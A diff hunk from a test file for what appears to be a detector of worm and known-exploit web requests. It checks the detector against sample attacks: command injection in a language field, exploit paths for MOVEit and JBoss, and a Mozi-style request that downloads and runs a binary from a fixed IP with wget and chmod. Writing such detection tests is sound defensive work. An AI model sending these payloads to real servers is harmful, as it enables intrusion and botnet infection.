@@ -178,7 +178,8 @@ test('requests of worms and of known holes are told, and those of every day are 
     attacks(`POST ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
   const fetched = ['program fetched and run']
   assert.equal(post('/moveitisapi/moveitisapi.dll?action=m2', 'x').length, 1)
-  assert.equal(post('/SDK/webLanguage', '<language>$(id)</language>').length, 1)
+  assert.equal(post('/SDK/webLanguage', '<language>$(>webLib/c)</language>').length, 1)
+  assert.deepEqual(post('/SDK/webLanguage', '<language>en</language>'), [], 'a language is chosen')
   assert.equal(post('/invoker/JMXInvokerServlet', 'x').length, 1)
   assert.deepEqual(get('/_layouts/15/start.aspx'), [])
   assert.deepEqual(get('/shell?cd+/tmp;wget+http://10.9.9.9/mozi.a;chmod+777+mozi.a'), fetched)
